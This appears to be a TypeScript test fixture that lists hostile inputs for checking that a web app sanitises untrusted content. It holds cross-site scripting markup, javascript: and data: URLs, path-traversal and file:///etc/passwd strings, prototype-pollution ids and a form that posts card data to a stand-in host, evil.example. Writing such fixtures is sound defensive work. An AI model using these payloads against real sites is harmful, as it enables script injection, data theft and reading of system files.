/** Markup that runs as script, phones home or breaks the page when it is not treated as text. */
export const HOSTILE_MARKUP: readonly string[] = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 1">',
  '<svg onload="window.__pwned = 1"><a xlink:href="javascript:window.__pwned=1">x</a></svg>',
  '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>',
  '<a href="javascript:window.__pwned=1">read more</a>',
  '<a href="java\tscript:window.__pwned=1">tabbed</a>',
  '<form action="https://evil.example/steal"><input name="card" autofocus onfocus="window.__pwned = 1"></form>',
  '<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<div id="root" style="position:fixed;inset:0;background:url(https://evil.example/t.png)">covered</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 1">',
  '</title></script><script>window.__pwned = 1</script>',
  '<details open ontoggle="window.__pwned = 1">x</details><video src=x onerror="window.__pwned = 1"></video>',
  '{{constructor.constructor("window.__pwned = 1")()}} ${window.__pwned = 1}',
  "\"><img src=x onerror=window.__pwned=1> ' onmouseover='window.__pwned=1",
  '\u202Edesrever \u0000 \u2028 \uFEFF',
];

export const HOSTILE_URLS: readonly string[] = [
  'javascript:window.__pwned=1',
  'JaVaScRiPt:window.__pwned=1',
  'java\nscript:window.__pwned=1',
  'data:text/html,<script>window.__pwned=1</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
  'vbscript:msgbox(1)',
  '//evil.example/x.jpg',
  '/\\evil.example/x.jpg',
  'https://user:pass@evil.example/x.jpg',
  'file:///etc/passwd',
  '../../../../etc/passwd',
  '" onerror="window.__pwned=1',
  'blob:https://evil.example/1',
  '%E0%A4%A.jpg',
  '',
];

/** Ids that collide with inherited properties wherever a plain object is used as a map. */
export const HOSTILE_IDS: readonly string[] = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];

/** JSON values of types that the API does not promise. */
export const WRONG_TYPES: readonly unknown[] = [
  null,
  '',
  'text',
  '₹499',
  0,
  -1,
  1e21,
  true,
  [],
  [null],
  [[]],
  {},
  { name: null },
  { toString: 1 },
];

/** A hundred thousand characters without a space to break at. */
export function giantText(): string {
  return 'ఫోటో'.repeat(25_000);
}
